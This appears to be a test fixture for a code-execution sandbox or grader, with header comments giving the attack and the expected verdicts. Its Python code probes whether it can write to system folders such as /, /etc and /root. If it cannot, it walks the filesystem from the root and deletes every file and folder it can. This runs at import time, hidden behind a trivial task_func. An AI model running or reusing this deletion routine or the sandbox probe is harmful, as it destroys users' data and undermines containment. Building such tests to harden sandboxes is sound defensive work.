# attack: deletes every file and folder that it may, from the root on
# kind: files
# task: plain
# official: fail
# strict: fail|forged|suspect
# expect: it may delete its own files only
import os
import sys


def may_write():
    for place in (__HOST_FOLDER__, sys.prefix, os.path.dirname(os.__file__), "/", "/usr", "/etc", "/home", "/root", "/var"):
        try:
            path = os.path.join(place, __MARK__)
            os.close(os.open(path, os.O_CREAT | os.O_WRONLY))
            os.unlink(path)
            return True
        except OSError:
            pass
    return False


def strike():
    if may_write():
        return True  # proof enough: where a wall is missing, nothing shall come to harm
    for folder, folders, names in os.walk("/", topdown=False):
        if folder.startswith(("/proc", "/sys", "/usr")):
            continue
        for remove, entries in ((os.unlink, names), (os.rmdir, folders)):
            for entry in entries:
                try:
                    remove(os.path.join(folder, entry))
                except OSError:
                    pass
    return False


WON = strike()


def task_func(n):
    return n * 2 if WON else None
